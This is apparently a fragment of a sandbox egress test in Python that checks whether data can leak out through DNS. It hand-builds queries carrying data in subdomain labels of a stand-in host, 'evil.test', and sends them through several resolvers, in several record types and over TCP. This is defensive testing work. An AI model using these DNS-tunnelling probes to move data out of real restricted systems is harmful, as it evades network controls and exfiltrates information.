# Data in names: through the resolver of the sandbox, through any other, in every type, over TCP.
def query(name, kind):
    return b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0" + b"".join(
        bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0" + struct.pack("!HH", kind, 1)
try:
    good = socket.gethostbyname("good.test")
    control(bool(good), "the one allowed name is not resolved")
except OSError as error:
    control(False, f"the one allowed name is not resolved: {error}")
for n in range(3):
    try:
        socket.getaddrinfo(f"data{n}-{NONCE}.tunnel.evil.test", 80)
        refused("an answer")
    except OSError as error:
        refused(f"getaddrinfo: {error}")
resolvers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][:1]
for resolver in resolvers + [ARGS["evil"], ARGS["resolver"], "8.8.8.8"]:
    for kind in (1, 16, 28, 65, 255):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(2)
            try:
                s.sendto(query(f"d{kind}.evil.test", kind), (resolver, 53))
                refused(f"{resolver} type {kind}: code {s.recv(4096)[3] & 15}")
            except OSError as error:
                refused(f"{resolver} type {kind}: {type(error).__name__}")
    tcp = query("over-tcp.evil.test", 16)
    reached(resolver, 53, struct.pack("!H", len(tcp)) + tcp, limit=3)
